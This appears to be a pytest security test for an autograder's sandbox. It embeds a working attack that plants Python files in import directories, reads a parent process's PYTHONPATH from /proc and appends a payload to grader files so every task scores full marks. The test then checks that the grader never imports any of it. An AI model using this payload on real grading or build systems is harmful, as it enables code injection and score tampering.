"""Student code can plant nothing that the grader process later imports.

The attack (in ``stacked_rnn.py``, at import time, in the sandbox child) writes Python files into every
directory it can find: the temporary directory, the parent directories of its working directory and of its own
file and their ``rnn-*`` siblings (where the grader keeps its temporary packages), its ``sys.path`` entries and the
``PYTHONPATH`` of its parent process (read from ``/proc``). Existing ``.py`` files of the grader's temporary
packages (``rnn-*`` directories other than the child's own sandbox) get a payload appended that, once imported by the grader, leaves a marker and gives every task full
marks. ``stacked_rnn_backward`` then raises what the attack did, so the report shows it ran.

The batch (the attack, then a submission with a catalogued mistake whose diagnosis imports the mistake
catalogue's mutants) runs in a fresh grader process, as ``course grade`` does. Asserted: the grader never
imported a planted file (no marker), the later submission scores exactly as when graded alone with the same
seed, no planted file sits in any import directory of the grader, and the child found no writable directory
of the Python installation.

To spare the other processes of this machine, the attack edits existing files only inside this test's own
directory; elsewhere it only creates new files with a unique name (deleted afterwards), and in the directories
of the Python installation (its prefixes, ``site-packages``, ``lib/python*``) it only checks write access
(``os.access``) instead of writing.
"""

import json
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

from autograder.grading import mistakes

from .submissions import REPO_ROOT, SEED, edit, insert_in_body, points, stubs_with_reference, tasks_where

ASSIGNMENTS = ["a1"]
LATER_MISTAKE = "bptt_no_future_gradient"

ATTACK = '''
def _plant(token={token!r}, marker={marker!r}, log={log!r}, fence={fence!r}):
    import glob, os, sys, tempfile
    payload = ("import os as _o, sys as _s\\n"
               "open(%r, 'a').write('imported by %%d\\\\n' %% _o.getpid())\\n"
               "_g = _s.modules.get('autograder.grading.grade')\\n"
               "if _g is not None and hasattr(_g, 'TaskResult'):\\n"
               "    _g.TaskResult.points = property(lambda self: self.max_points)\\n") % marker
    inside = lambda path: (os.path.realpath(path) + os.sep).startswith(fence + os.sep)
    dirs = {{tempfile.gettempdir()}}
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        here = start
        while True:
            dirs.add(here)
            if inside(here):
                dirs.update(glob.glob(os.path.join(here, "rnn-*")))
            if os.path.dirname(here) == here:
                break
            here = os.path.dirname(here)
    dirs.update(entry for entry in sys.path if entry)
    try:
        with open("/proc/%d/environ" % os.getppid(), "rb") as handle:
            for entry in handle.read().split(b"\\0"):
                if entry.startswith(b"PYTHONPATH="):
                    dirs.update(p for p in entry[len(b"PYTHONPATH="):].decode().split(os.pathsep) if p)
    except OSError:
        pass
    installation = {{os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix)}}
    installation |= {{os.path.realpath(p) for p in sys.path if "-packages" in p or os.sep + "lib" + os.sep + "python" in p}}
    planted, writable = [], []
    for directory in sorted(dirs):
        real = os.path.realpath(directory)
        if not os.path.isdir(real):
            continue
        if any(real == p or real.startswith(p + os.sep) for p in installation):
            if os.access(real, os.W_OK):
                writable.append(directory)
            continue
        try:
            with open(os.path.join(real, "rnn_planted_%s.py" % token), "x") as handle:
                handle.write(payload)
            planted.append(os.path.join(real, "rnn_planted_%s.py" % token))
        except OSError:
            pass
        own_sandbox = (os.path.realpath(os.getcwd()) + os.sep).startswith(real + os.sep)
        if os.path.basename(real).startswith("rnn-") and inside(real) and not own_sandbox:
            for parent, _, names in os.walk(real):
                for name in names:
                    if name.endswith(".py") and not name.startswith("rnn_planted_"):
                        try:
                            with open(os.path.join(parent, name), "a") as handle:
                                handle.write("\\n" + payload)
                            planted.append(os.path.join(parent, name))
                        except OSError:
                            pass
    try:
        with open(log, "a") as handle:
            handle.write("".join(path + "\\n" for path in planted))
    except OSError:
        pass
    return "planted %d file(s); writable interpreter directories: %r" % (len(planted), writable)


_ATTACK_RESULT = _plant()
'''


def attack_submission(tmp_path, token, marker, log):
    """The A1 reference with the attack at the top of stacked_rnn.py; stacked_rnn_backward raises its result."""
    root = stubs_with_reference(tmp_path / "mallory", ["a1_vanilla_rnn"])
    code = ATTACK.format(token=token, marker=str(marker), log=str(log), fence=os.path.realpath(tmp_path))
    edit(root, "a1_vanilla_rnn/stacked_rnn.py", "import numpy as np\n", "import numpy as np\n" + code)
    [reporting] = tasks_where(lambda task: task.function == "stacked_rnn_backward")
    insert_in_body(root, reporting, "    raise ValueError(_ATTACK_RESULT)\n")
    return root, reporting


DRIVER = """
import json, os, sys
from autograder.grading import reports
from autograder.grading.grade import grade_many
from autograder.grading.sandbox import Limits
job = json.loads(sys.argv[1])
batch = grade_many(job["paths"], assignment_ids=job["assignments"], seed=job["seed"], jobs=1,
                   limits=Limits(cpu_seconds=20, wall_seconds_per_request=5))
files = sorted({getattr(module, "__file__", None) or "" for module in list(sys.modules.values())} - {""})
with open(job["out"], "w") as handle:
    json.dump({"reports": [reports.to_dict(report) for report in batch],
               "sys_path": [os.path.abspath(entry) for entry in sys.path],
               "module_files": files}, handle)
"""


def grade_in_a_fresh_grader(tmp_path, name, paths):
    """Run grade_many in a new process started in the repository (as ``python -m autograder.authoring.cli``
    would be), its TMPDIR inside tmp_path; returns its reports, final sys.path and imported module files."""
    grader_tmp = tmp_path / f"grader-tmp-{name}"
    grader_tmp.mkdir()
    out = tmp_path / f"{name}.json"
    job = {"paths": [str(p) for p in paths], "assignments": ASSIGNMENTS, "seed": SEED, "out": str(out)}
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "TMPDIR": str(grader_tmp)}
    result = subprocess.run([sys.executable, "-c", DRIVER, json.dumps(job)], env=env, cwd=REPO_ROOT,
                            capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(out.read_text()), grader_tmp


def planted_files(token, directories):
    return sorted({str(Path(d) / f"rnn_planted_{token}.py") for d in directories
                   if d and (Path(d) / f"rnn_planted_{token}.py").exists()})


def remove_planted(token, log, directories):
    """Delete the files the attack created (listed in its log, or found by their unique name); nothing else."""
    listed = log.read_text().split() if log.exists() else []
    for path in {*listed, *planted_files(token, directories)}:
        if Path(path).name == f"rnn_planted_{token}.py":
            Path(path).unlink(missing_ok=True)


def test_the_grader_never_imports_what_a_student_wrote(tmp_path):
    token = secrets.token_hex(8)
    marker, log = tmp_path / "imported-by-the-grader.txt", tmp_path / "attack-log.txt"
    attack, reporting = attack_submission(tmp_path, token, marker, log)
    mistake = next(m for m in mistakes.CATALOGUE if m.id == LATER_MISTAKE)
    later = mistakes.write_mutant_tree(mistake, tmp_path / "later" / "assignments").parent
    places = [tempfile.gettempdir(), "/tmp", str(REPO_ROOT), *map(str, tmp_path.parents), *sys.path]
    try:
        batch, grader_tmp = grade_in_a_fresh_grader(tmp_path, "batch", [attack, later])
        alone, _ = grade_in_a_fresh_grader(tmp_path, "alone", [later])
        places += batch["sys_path"]
        attacked, graded_later = batch["reports"]
        said = json.dumps(attacked)
        assert "planted" in said  # the attack ran in the child

        assert not marker.exists(), marker.read_text()  # the grader never imported a planted file
        assert [(t["id"], t["points"]) for t in graded_later["tasks"]] == \
            [(t["id"], t["points"]) for t in alone["reports"][0]["tasks"]]
        assert attacked["points"] == points(ASSIGNMENTS, without=[reporting.id])

        in_grader_path = planted_files(token, batch["sys_path"])
        assert in_grader_path == [], in_grader_path
        tampered = [f for f in batch["module_files"] if f.startswith(str(tmp_path)) or token in _read(f)]
        assert tampered == [], tampered
        assert "writable interpreter directories: []" in said, said[-600:]
    finally:
        remove_planted(token, log, places + [str(Path(p).parent) for p in places])


def _read(path):
    try:
        return Path(path).read_text(errors="replace")
    except OSError:
        return ""
